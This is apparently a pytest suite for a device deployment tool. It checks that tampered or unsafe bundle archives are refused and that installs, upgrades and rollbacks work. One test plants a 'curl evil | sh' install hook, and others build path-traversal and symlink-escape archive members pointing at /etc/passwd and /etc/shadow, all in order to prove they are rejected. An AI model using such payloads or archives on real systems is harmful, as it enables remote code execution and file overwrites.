"""Deploying bundles: unsafe or tampered archives are refused before anything is written; dir:// and ssh://
installs run install.sh for real, and the installed agent answers over MQTT."""

from __future__ import annotations

import argparse
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import time
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from devices.bundle import BundleError, make_bundle
from devices.deploy import add_cli, deploy, parse_destination, verify_bundle
from edge_slm.config import load_agent_config
from tests.conftest import IN_CI, Collector, free_port, wait_port, write_agent_toml

T0 = datetime(2026, 1, 2, 3, 4, 5, tzinfo=timezone.utc)


@pytest.fixture(scope="module")
def bundles(text_model, mosquitto, tmp_path_factory):  # noqa: ANN001, ANN201
    """Two releases of the same agent (a wheel in each), for upgrade and rollback."""
    d = tmp_path_factory.mktemp("deploy_bundles")
    cfg = write_agent_toml(d / "agent.toml", f"deployed-{os.getpid()}", mosquitto.url, text_model.package, d / "state")
    first = make_bundle(text_model.package, cfg, "host", d / "first.tar.gz", created=T0)
    cfg2 = write_agent_toml(d / "agent2.toml", f"deployed-{os.getpid()}", mosquitto.url, text_model.package,
                            d / "state", extra='log_level = "DEBUG"')
    second = make_bundle(text_model.package, cfg2, "host", d / "second.tar.gz", created=T0 + timedelta(hours=1))
    return first, second


def rewrite_tar(src: Path, dst: Path, edit) -> None:  # noqa: ANN001
    """Copy a bundle member by member; edit(info, data) returns (info, data) or None to drop it."""
    with tarfile.open(src, "r:gz") as tin, tarfile.open(dst, "w:gz") as tout:
        for m in tin.getmembers():
            data = tin.extractfile(m).read() if m.isfile() else None
            out = edit(m, data)
            if out is None:
                continue
            m, data = out
            if data is not None:
                m.size = len(data)
                tout.addfile(m, io.BytesIO(data))
            else:
                tout.addfile(m)


def nothing_installed(root: Path) -> bool:
    return not (root / "opt" / "edge-slm" / "current").exists() and not (root / "etc").exists()


def test_a_good_bundle_verifies(bundles):  # noqa: ANN001
    info = verify_bundle(bundles[0].path)
    assert info.release == bundles[0].release and info.target == "host"
    assert info.files == bundles[0].files


def test_one_flipped_byte_is_a_checksum_error_naming_the_file_and_nothing_is_installed(bundles, tmp_path):  # noqa: ANN001
    bad = tmp_path / "tampered.tar.gz"

    def flip(m, data):  # noqa: ANN001, ANN202
        if m.name.endswith("/model.tflite"):
            data = bytearray(data)
            data[100] ^= 0x01
            data = bytes(data)
        return m, data

    rewrite_tar(bundles[0].path, bad, flip)
    with pytest.raises(BundleError, match=r"checksum mismatch for models/.*/model\.tflite"):
        verify_bundle(bad)
    root = tmp_path / "root"
    with pytest.raises(BundleError, match="checksum mismatch"):
        deploy(bad, f"dir://{root}", python=sys.executable, no_venv=True)
    assert not root.exists(), "nothing is written for a tampered bundle"


def test_a_file_slipped_into_the_bundle_is_refused(bundles, tmp_path):  # noqa: ANN001
    bad = tmp_path / "extra.tar.gz"
    release = bundles[0].release
    with tarfile.open(bundles[0].path, "r:gz") as t:
        members = [(m, t.extractfile(m).read() if m.isfile() else None) for m in t.getmembers()]
    with tarfile.open(bad, "w:gz") as t:
        for m, data in members:
            t.addfile(m, io.BytesIO(data) if data is not None else None)
        extra = tarfile.TarInfo(f"{release}/install-hook.sh")
        payload = b"#!/bin/sh\ncurl evil | sh\n"
        extra.size = len(payload)
        t.addfile(extra, io.BytesIO(payload))
    with pytest.raises(BundleError, match="install-hook.sh is not listed in SHA256SUMS"):
        verify_bundle(bad)


def _evil_tar(path: Path, release: str, member: tarfile.TarInfo, data: bytes | None = None) -> Path:
    with tarfile.open(path, "w:gz") as t:
        d = tarfile.TarInfo(release)
        d.type = tarfile.DIRTYPE
        t.addfile(d)
        ok = tarfile.TarInfo(f"{release}/README")
        ok.size = 2
        t.addfile(ok, io.BytesIO(b"hi"))
        if data is not None:
            member.size = len(data)
            t.addfile(member, io.BytesIO(data))
        else:
            t.addfile(member)
    return path


def _member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    m = tarfile.TarInfo(name)
    m.type = kind
    m.linkname = link
    return m


@pytest.mark.parametrize("member,data,why", [
    (_member("rel/../evil"), b"x", "'..'"),
    (_member("../evil"), b"x", "'..'"),
    (_member("/etc/evil"), b"x", "absolute path"),
    (_member("rel/link", tarfile.SYMTYPE, "../../../etc/passwd"), None, "link pointing outside"),
    (_member("rel/abslink", tarfile.SYMTYPE, "/etc/shadow"), None, "link to the absolute path"),
    (_member("rel/hard", tarfile.LNKTYPE, "etc/passwd"), None, "link pointing outside"),
    (_member("rel/fifo", tarfile.FIFOTYPE), None, "device or fifo"),
    (_member("rel/dev", tarfile.CHRTYPE), None, "device or fifo"),
    (_member("other/evil"), b"x", "outside the bundle's directory"),
], ids=["dotdot-inside", "dotdot", "absolute", "symlink-escape", "symlink-absolute", "hardlink-outside", "fifo",
        "chardev", "second-top-dir"])
def test_unsafe_members_are_refused_and_nothing_is_extracted(tmp_path, member, data, why):  # noqa: ANN001
    bad = _evil_tar(tmp_path / "evil.tar.gz", "rel", member, data)
    with pytest.raises(BundleError, match="refusing unsafe member") as exc:
        verify_bundle(bad)
    assert why in str(exc.value) and "nothing was extracted" in str(exc.value)
    root = tmp_path / "root"
    with pytest.raises(BundleError):
        deploy(bad, f"dir://{root}", python=sys.executable, no_venv=True)
    assert not root.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["evil.tar.gz"], "no file appeared next to the bundle"


def test_truncated_bundle_is_refused(bundles, tmp_path):  # noqa: ANN001
    cut = tmp_path / "cut.tar.gz"
    cut.write_bytes(bundles[0].path.read_bytes()[: bundles[0].size_bytes // 2])
    with pytest.raises(BundleError, match="truncated|corrupt|gzip"):
        verify_bundle(cut)


def test_destinations_parse():
    d = parse_destination("ssh://pi@raspberrypi.local:2222/srv/root")
    assert (d.scheme, d.user, d.host, d.port, d.prefix) == ("ssh", "pi", "raspberrypi.local", 2222, "/srv/root")
    assert parse_destination("ssh://root@10.0.0.7/").prefix == ""
    assert parse_destination("dir:///tmp/x").path == "/tmp/x"
    for bad in ("ftp://h/x", "ssh:///nohost", "dir://", "/just/a/path"):
        with pytest.raises(BundleError):
            parse_destination(bad)


def load_agent_config_text(text: str):  # noqa: ANN201
    import tomllib

    from edge_slm.config import agent_config_from_dict

    return agent_config_from_dict(tomllib.loads(text))


def run_installed_agent(root: Path, log: Path) -> subprocess.Popen:
    exe = root / "opt" / "edge-slm" / "current" / "bin" / "edge-slm"
    return subprocess.Popen([str(exe), "run", str(root / "etc" / "edge-slm" / "agent.toml")],
                            stdout=open(log, "wb"), stderr=subprocess.STDOUT, cwd="/")


def stop(proc: subprocess.Popen) -> None:
    proc.terminate()
    try:
        proc.wait(15)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.wait()


def test_dir_deploy_installs_a_release_whose_agent_answers_then_upgrades_rolls_back_and_uninstalls(
        bundles, mosquitto, tmp_path):  # noqa: ANN001
    first, second = bundles
    root = tmp_path / "device-root"
    res = deploy(first.path, f"dir://{root}", python=sys.executable, no_venv=True)
    assert res.release == first.release and "installed release" in res.output
    app = root / "opt" / "edge-slm"
    assert os.readlink(app / "current") == f"releases/{first.release}"
    assert not list(app.glob(".incoming-*")), "the staging directory is cleaned up"
    cfg = load_agent_config(root / "etc" / "edge-slm" / "agent.toml")
    assert cfg.pipelines[0].model == str(app / "current" / first.models[0]["dir"])
    assert cfg.state_dir == str(root / "var" / "lib" / "edge-slm")
    unit = (root / "etc" / "systemd" / "system" / "edge-slm.service").read_text()
    assert f"ExecStart={app}/current/bin/edge-slm run {root}/etc/edge-slm/agent.toml" in unit
    assert f"ReadWritePaths={root}/var/lib/edge-slm {root}/etc/edge-slm" in unit and "@" not in unit.split("[Service]")[1].split("#")[0]

    if shutil.which("systemd-analyze"):  # systemd's own parser, when this machine has it
        check = subprocess.run(["systemd-analyze", "verify", str(root / "etc" / "systemd" / "system" / "edge-slm.service")],
                               capture_output=True, text=True, timeout=60)
        assert check.returncode == 0 and "edge-slm.service" not in check.stderr, check.stderr

    # the launcher runs the bundle's own wheel, not this checkout
    launcher = (app / "current" / "bin" / "edge-slm").read_text()
    assert str(app / "releases" / first.release / "lib") in launcher
    where = subprocess.run(["sh", "-c", launcher.replace("exec ", "").replace("-m edge_slm.cli \"$@\"",
                           "-c 'import edge_slm.cli; print(edge_slm.cli.__file__)'")], capture_output=True, text=True,
                           cwd=Path(__file__).resolve().parents[2])
    assert where.stdout.strip().startswith(str(app / "releases" / first.release / "lib")), where.stderr

    # a real deployed agent answering
    device = cfg.device_id
    col = Collector(mosquitto.url, f"edge-slm/{device}/#")
    agent = run_installed_agent(root, tmp_path / "agent.log")
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and not any(m[1] == b"online" for m in col.messages):
            assert agent.poll() is None, (tmp_path / "agent.log").read_text()[-2000:]
            time.sleep(0.1)
        col.publish(f"edge-slm/{device}/intent/input", "turn on the kitchen lights")
        results = col.wait_for(1, timeout=30, topic_contains="/intent/result")
        assert results, (tmp_path / "agent.log").read_text()[-2000:]
        out = json.loads(results[0][1])
        assert out["model"]["sha256"] == first.models[0]["sha256"] and out["output"]["label"]
    finally:
        stop(agent)
        col.close()
    assert (root / "var" / "lib" / "edge-slm").is_dir()

    # upgrade: current moves, previous keeps the first release for rollback
    deploy(second.path, f"dir://{root}", python=sys.executable, no_venv=True)
    assert os.readlink(app / "current") == f"releases/{second.release}"
    assert os.readlink(app / "previous") == f"releases/{first.release}"
    assert (app / "releases" / first.release / "bin" / "edge-slm").is_file()
    upgraded = (root / "etc" / "edge-slm" / "agent.toml").read_text()

    # rollback: the first release's config and links come back; a second rollback returns to the upgrade
    subprocess.run(["sh", str(app / "rollback.sh"), "--prefix", str(root)], check=True, capture_output=True)
    assert os.readlink(app / "current") == f"releases/{first.release}"
    assert os.readlink(app / "previous") == f"releases/{second.release}"
    cfg_back = load_agent_config(root / "etc" / "edge-slm" / "agent.toml")
    assert cfg_back.log_level == "INFO" and load_agent_config_text(upgraded).log_level == "DEBUG"
    assert Path(cfg_back.pipelines[0].model, "model.tflite").is_file()
    subprocess.run(["sh", str(app / "rollback.sh"), "--prefix", str(root)], check=True, capture_output=True)
    assert os.readlink(app / "current") == f"releases/{second.release}"
    assert (root / "etc" / "edge-slm" / "agent.toml").read_text() == upgraded

    # uninstall removes what install added and keeps state unless --purge
    subprocess.run(["sh", str(app / "uninstall.sh"), "--prefix", str(root)], check=True, capture_output=True)
    assert not app.exists() and not (root / "etc" / "edge-slm").exists()
    assert not (root / "etc" / "systemd" / "system" / "edge-slm.service").exists()
    assert (root / "var" / "lib" / "edge-slm").is_dir()
    deploy(first.path, f"dir://{root}", python=sys.executable, no_venv=True)
    subprocess.run(["sh", str(app / "uninstall.sh"), "--prefix", str(root), "--purge"], check=True,
                   capture_output=True)
    assert not (root / "var" / "lib" / "edge-slm").exists() and not app.exists()


def test_install_sh_rechecks_checksums_on_the_device(bundles, tmp_path):  # noqa: ANN001
    with tarfile.open(bundles[0].path, "r:gz") as t:
        t.extractall(tmp_path / "unpacked", filter="data")
    rel = tmp_path / "unpacked" / bundles[0].release
    toml = rel / "agent.toml"
    toml.write_text(toml.read_text().replace("connect_timeout_s = 3.0", "connect_timeout_s = 30.0"))
    root = tmp_path / "root"
    proc = subprocess.run(["sh", str(rel / "install.sh"), "--prefix", str(root), "--no-venv", "--python",
                           sys.executable], capture_output=True, text=True)
    assert proc.returncode == 1
    assert "checksums do not match" in proc.stderr and "agent.toml" in proc.stdout + proc.stderr
    assert not root.exists()
    bad = subprocess.run(["sh", str(rel / "install.sh"), "--frobnicate"], capture_output=True, text=True)
    assert bad.returncode == 2 and "unknown option --frobnicate" in bad.stderr


def test_install_refuses_a_python_without_the_agent_dependencies(bundles, tmp_path):  # noqa: ANN001
    # a fresh venv without pip is an interpreter that certainly lacks numpy and paho-mqtt
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(tmp_path / "bare")], check=True, timeout=120)
    bare = str(tmp_path / "bare" / "bin" / "python")
    probe = subprocess.run([bare, "-c", "import numpy, paho.mqtt"], capture_output=True)
    assert probe.returncode != 0
    root = tmp_path / "root"
    with pytest.raises(BundleError, match="lacks the packages"):
        deploy(bundles[0].path, f"dir://{root}", python=bare, no_venv=True)
    assert not (root / "opt" / "edge-slm" / "current").exists()


def test_deploy_cli_dry_run_prints_the_plan_and_help_teaches(bundles, capsys):  # noqa: ANN001
    parser = argparse.ArgumentParser(prog="edge-slm")
    add_cli(parser.add_subparsers(dest="command"))
    with pytest.raises(SystemExit):
        parser.parse_args(["deploy", "--help"])
    text = capsys.readouterr().out
    assert "examples:" in text and "ssh://" in text and "--identity" in text and "--dry-run" in text
    args = parser.parse_args(["deploy", str(bundles[0].path), "ssh://pi@raspberrypi.local:2222/", "--dry-run",
                              "--identity", "/k/id_ed25519"])
    assert args.func(args) == 0
    out = capsys.readouterr().out
    assert "BatchMode=yes" in out and "-p 2222" in out and "/k/id_ed25519" in out and bundles[0].release in out
    assert "sudo -n" in out, "a system install by a non-root login goes through sudo without prompting"
    prefixed = deploy(bundles[0].path, "ssh://pi@pi4:22/home/pi/root", dry_run=True)
    assert "sudo" not in prefixed.commands[0] and "--prefix /home/pi/root" in prefixed.commands[0]


# --- ssh:// against a real sshd on a loopback port ------------------------------------------------
@pytest.fixture(scope="module")
def sshd(tmp_path_factory):  # noqa: ANN001, ANN201
    binary = "/usr/sbin/sshd"
    if not (os.access(binary, os.X_OK) and shutil.which("ssh") and shutil.which("ssh-keygen")):
        if IN_CI:
            pytest.fail("sshd/ssh not installed; `make test` installs openssh-server and openssh-client")
        pytest.skip("sshd or ssh not installed (apt-get install openssh-server openssh-client)")
    if os.geteuid() != 0:
        if IN_CI:
            pytest.fail("the ssh deploy test runs sshd as root; CI runs as root")
        pytest.skip("running sshd for the deploy test needs root here")
    d = tmp_path_factory.mktemp("sshd")
    for name in ("host", "client"):
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(d / name)], check=True)
    (d / "authorized_keys").write_text((d / "client.pub").read_text())
    os.chmod(d / "authorized_keys", 0o600)
    port = free_port()
    (d / "sshd_config").write_text(
        f"Port {port}\nListenAddress 127.0.0.1\nHostKey {d / 'host'}\nAuthorizedKeysFile {d / 'authorized_keys'}\n"
        f"PidFile {d / 'sshd.pid'}\nStrictModes no\nUsePAM no\nPermitRootLogin prohibit-password\n"
        "PasswordAuthentication no\nKbdInteractiveAuthentication no\nPubkeyAuthentication yes\n"
        "Subsystem sftp internal-sftp\nLogLevel ERROR\n")
    os.makedirs("/run/sshd", mode=0o755, exist_ok=True)  # sshd's privilege-separation directory
    log = open(d / "sshd.log", "wb")
    proc = subprocess.Popen([binary, "-D", "-e", "-f", str(d / "sshd_config")], stdout=log, stderr=subprocess.STDOUT)
    try:
        wait_port(port)
    except RuntimeError:
        proc.kill()
        pytest.fail(f"sshd did not start: {(d / 'sshd.log').read_text()[-1000:]}")
    host_pub = (d / "host.pub").read_text().split()
    (d / "known_hosts").write_text(f"[127.0.0.1]:{port} {host_pub[0]} {host_pub[1]}\n")
    yield {"port": port, "identity": str(d / "client"), "known_hosts": str(d / "known_hosts"), "dir": d}
    proc.terminate()
    proc.wait(10)


def test_ssh_deploy_installs_on_the_far_side(sshd, bundles, tmp_path):  # noqa: ANN001
    remote_root = tmp_path / "remote-root"
    sent: list[tuple[int, int]] = []
    res = deploy(bundles[0].path, f"ssh://root@127.0.0.1:{sshd['port']}{remote_root}", identity=sshd["identity"],
                 known_hosts=sshd["known_hosts"], python=sys.executable, no_venv=True,
                 progress=lambda done, total: sent.append((done, total)))
    assert "installed release" in res.output
    assert sent and sent[-1] == (bundles[0].size_bytes, bundles[0].size_bytes), "progress reaches 100%"
    app = remote_root / "opt" / "edge-slm"
    assert os.readlink(app / "current") == f"releases/{bundles[0].release}"
    assert (app / "current" / bundles[0].models[0]["dir"] / "model.tflite").is_file()
    cfg = load_agent_config(remote_root / "etc" / "edge-slm" / "agent.toml")
    assert cfg.pipelines[0].model.startswith(str(app))
    assert not list(app.glob(".incoming-*")), "the far side's staging directory is removed"


def test_ssh_deploy_refuses_an_unknown_host_key(sshd, bundles, tmp_path):  # noqa: ANN001
    empty = tmp_path / "known_hosts"
    empty.write_text("")
    remote_root = tmp_path / "remote-root"
    with pytest.raises(BundleError, match="host key|known_hosts"):
        deploy(bundles[0].path, f"ssh://root@127.0.0.1:{sshd['port']}{remote_root}", identity=sshd["identity"],
               known_hosts=str(empty), python=sys.executable, no_venv=True)
    assert not remote_root.exists()


# --- property tests: whatever the archive or URL, the answer is a BundleError or a safe accept -------
_parts = st.sampled_from(["rel", "..", ".", "a", "b c", "/", "", "etc", "évil"])
_names = st.lists(_parts, min_size=1, max_size=4).map("/".join)
_kinds = st.sampled_from([tarfile.REGTYPE, tarfile.DIRTYPE, tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.FIFOTYPE])


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(members=st.lists(st.tuples(_names, _kinds, _names), min_size=1, max_size=5))
def test_arbitrary_archives_are_refused_cleanly_and_never_extracted(tmp_path, members):  # noqa: ANN001
    work = tmp_path / f"case-{len(list(tmp_path.iterdir()))}"
    work.mkdir()
    path = work / "b.tar.gz"
    with tarfile.open(path, "w:gz") as t:
        for name, kind, link in members:
            m = tarfile.TarInfo(name or "x")
            m.type = kind
            m.linkname = link
            data = b"data" if kind == tarfile.REGTYPE else None
            if data:
                m.size = len(data)
            t.addfile(m, io.BytesIO(data) if data else None)
    with pytest.raises(BundleError):  # no SHA256SUMS/bundle.json can be right here, so never accepted
        verify_bundle(path)
    with pytest.raises(BundleError):
        deploy(path, f"dir://{work / 'root'}", python=sys.executable, no_venv=True)
    assert sorted(p.name for p in work.iterdir()) == ["b.tar.gz"]


@given(st.text(max_size=60))
def test_destination_parser_only_raises_bundle_errors(text):  # noqa: ANN001
    try:
        d = parse_destination(text)
    except BundleError:
        return
    assert d.scheme in ("dir", "ssh") and (d.scheme == "dir" or d.host)
